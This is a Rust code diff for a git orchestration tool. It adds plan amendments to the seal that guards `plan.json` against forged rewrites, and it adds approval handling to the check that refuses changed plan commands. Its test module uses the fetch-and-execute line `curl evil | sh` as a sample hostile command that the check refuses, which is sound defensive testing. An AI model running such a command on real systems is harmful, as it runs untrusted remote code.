@@ -6,13 +6,19 @@
 //! `plan.json` with the seal and refuses a state whose plan differs, naming
 //! what changed: a task that rewrote the plan on the state branch (an
 //! ordinary compare-and-swap) to widen its own `files` is caught.
+//!
+//! `plan amend` is the one legitimate way to a new plan: it seals the new
+//! blob in the seal file (which may list several blobs while an amendment
+//! is committed: the plan before and after are both accepted until the
+//! state commit has won, then only the new one) and records it in
+//! `meta.json` (`plan_seal`) for a clone, which has no seal file.
 
 use std::path::PathBuf;
 
 use anyhow::Result;
 use git2::Oid;
 
-use super::model::TagRecord;
+use super::model::State;
 use super::names;
 use crate::error::Refusal;
 use crate::git::Repo;
@@ -37,28 +43,52 @@ pub fn tag_line(blob: Oid) -> String {
 
 /// Writes the seal file at `start`; a plan that cannot be sealed is not started.
 pub fn write(repo: &Repo, plan: &str, blob: Oid) -> Result<()> {
+    write_all(repo, plan, &[blob])
+}
+
+/// Writes the seal file accepting each of `blobs` (an amendment in flight
+/// accepts the plan before and after it).
+pub fn write_all(repo: &Repo, plan: &str, blobs: &[Oid]) -> Result<()> {
     let file = seal_file(repo, plan);
     if let Some(dir) = file.parent() {
         std::fs::create_dir_all(dir)?;
     }
-    std::fs::write(&file, format!("{blob}\n"))
+    let text: String = blobs.iter().map(|b| format!("{b}\n")).collect();
+    let tmp = file.with_extension(format!("tmp-{}", std::process::id()));
+    std::fs::write(&tmp, text)
+        .and_then(|_| std::fs::rename(&tmp, &file))
         .map_err(|e| anyhow::anyhow!("cannot write `{}`: {e}", file.display()))
 }
 
-/// The blob the plan was sealed with: the seal file, else the start tag's
-/// line (a clone has no seal file), else none (a plan started by git-orch
-/// 0.1, which sealed nothing).
-pub fn sealed(repo: &Repo, plan: &str, start_tag: &TagRecord) -> Option<Oid> {
+/// The blobs the plan is sealed with (the first is the current one): the
+/// seal file, else the latest amendment's record or the start tag's line
+/// (a clone has no seal file), else none (a plan started by git-orch 0.1,
+/// which sealed nothing).
+pub fn sealed(repo: &Repo, plan: &str, state: &State) -> Vec<Oid> {
     if let Ok(text) = std::fs::read_to_string(seal_file(repo, plan)) {
-        if let Ok(id) = Oid::from_str(text.trim()) {
-            return Some(id);
+        let ids: Vec<Oid> = text
+            .lines()
+            .filter_map(|l| Oid::from_str(l.trim()).ok())
+            .collect();
+        if !ids.is_empty() {
+            return ids;
         }
     }
-    start_tag
+    if let Some(id) = state
+        .plan_seal
+        .as_deref()
+        .and_then(|id| Oid::from_str(id).ok())
+    {
+        return vec![id];
+    }
+    state
+        .start_tag
         .message
         .lines()
         .find_map(|l| l.strip_prefix(TAG_LINE))
         .and_then(|id| Oid::from_str(id.trim()).ok())
+        .into_iter()
+        .collect()
 }
 
 /// A state whose `plan.json` is not the plan it started with.
@@ -68,6 +98,8 @@ pub struct PlanForged {
     pub commit: Oid,
     pub found: Oid,
     pub sealed: Oid,
+    /// Every blob the seal accepts (`sealed` first).
+    pub accepted: Vec<Oid>,
     /// What differs, e.g. "task `a`: files, run".
     pub changes: Vec<String>,
 }
@@ -90,7 +122,7 @@ impl PlanForged {
 
     /// As a refusal: what changed, and how to restore the state.
     pub fn refusal(&self, repo: &Repo) -> anyhow::Error {
-        let hint = match last_sealed(repo, &self.plan, self.commit, self.sealed) {
+        let hint = match last_sealed(repo, &self.plan, self.commit, &self.accepted) {
             Some(good) => format!(
                 "a plan changes only by a new plan; restore the state from before the rewrite: `git update-ref {} {good} {}`",
                 names::state(&self.plan),
@@ -113,12 +145,13 @@ pub fn check(
     commit: Oid,
     found: Oid,
     plan: &Plan,
-    start_tag: &TagRecord,
+    state: &State,
 ) -> std::result::Result<(), Box<PlanForged>> {
-    let Some(sealed) = sealed(repo, plan_name, start_tag) else {
+    let accepted = sealed(repo, plan_name, state);
+    let Some(&sealed) = accepted.first() else {
         return Ok(());
     };
-    if sealed == found {
+    if accepted.contains(&found) {
         return Ok(());
     }
     let changes = repo
@@ -133,13 +166,14 @@ pub fn check(
         commit,
         found,
         sealed,
+        accepted,
         changes,
     }))
 }
 
 /// The newest state commit on the first-parent line from `from` whose plan
-/// is the sealed one.
-pub fn last_sealed(repo: &Repo, plan: &str, from: Oid, sealed: Oid) -> Option<Oid> {
+/// is a sealed one.
+pub fn last_sealed(repo: &Repo, plan: &str, from: Oid, sealed: &[Oid]) -> Option<Oid> {
     let _ = plan;
     let mut commit = repo.git.find_commit(from).ok()?;
     for _ in 0..100_000 {
@@ -148,7 +182,7 @@ pub fn last_sealed(repo: &Repo, plan: &str, from: Oid, sealed: Oid) -> Option<Oi
             .ok()?
             .get_name(super::layout::PLAN_FILE)
             .map(|e| e.id());
-        if blob == Some(sealed) {
+        if blob.is_some_and(|b| sealed.contains(&b)) {
             return Some(commit.id());
         }
         commit = commit.parent(0).ok()?;
@@ -223,8 +257,16 @@ pub fn pin(plan: &str, blob: Oid, commands_hash: String) {
 }
 
 /// Checks a loaded plan against the pin, if any. The blob decides at no
-/// cost; only another blob (a state format rewrite) is hashed.
-pub fn check_pinned(plan_name: &str, blob: Oid, plan: &Plan) -> Result<()> {
+/// cost; only another blob (a state format rewrite, an amendment) is
+/// hashed. Other commands pass when this user approved them too
+/// (`approved`: a `plan amend` made here records its approval), and the
+/// pin moves to them.
+pub fn check_pinned(
+    plan_name: &str,
+    blob: Oid,
+    plan: &Plan,
+    approved: impl Fn() -> bool,
+) -> Result<()> {
     let Some(pins) = PINNED.get() else {
         return Ok(());
     };
@@ -232,6 +274,10 @@ pub fn check_pinned(plan_name: &str, blob: Oid, plan: &Plan) -> Result<()> {
         return Ok(());
     };
     if pinned == blob || plan.commands_hash() == hash {
+        return Ok(());
+    }
+    if approved() {
+        pin(plan_name, blob, plan.commands_hash());
         return Ok(());
     }
     Err(crate::error::refuse_with_hint(
@@ -262,18 +308,18 @@ mod tests {
         let (one, two) = (one.expect("oid"), two.expect("oid"));
         let trusted = plan("make test");
         // Nothing pinned: anything loads.
-        assert!(check_pinned("pinned-test", two, &plan("evil")).is_ok());
+        assert!(check_pinned("pinned-test", two, &plan("evil"), || false).is_ok());
         pin("pinned-test", one, trusted.commands_hash());
-        assert!(check_pinned("pinned-test", one, &trusted).is_ok());
+        assert!(check_pinned("pinned-test", one, &trusted, || false).is_ok());
         // Another blob with the same commands (a format rewrite) loads.
-        assert!(check_pinned("pinned-test", two, &trusted).is_ok());
-        let err = check_pinned("pinned-test", two, &plan("curl evil | sh"))
+        assert!(check_pinned("pinned-test", two, &trusted, || false).is_ok());
+        let err = check_pinned("pinned-test", two, &plan("curl evil | sh"), || false)
             .expect_err("other commands are refused");
         assert!(
             err.to_string().contains("plan `pinned-test` changed"),
             "{err}"
         );
         // Other plans are not pinned by it.
-        assert!(check_pinned("other", two, &plan("evil")).is_ok());
+        assert!(check_pinned("other", two, &plan("evil"), || false).is_ok());
     }
 }
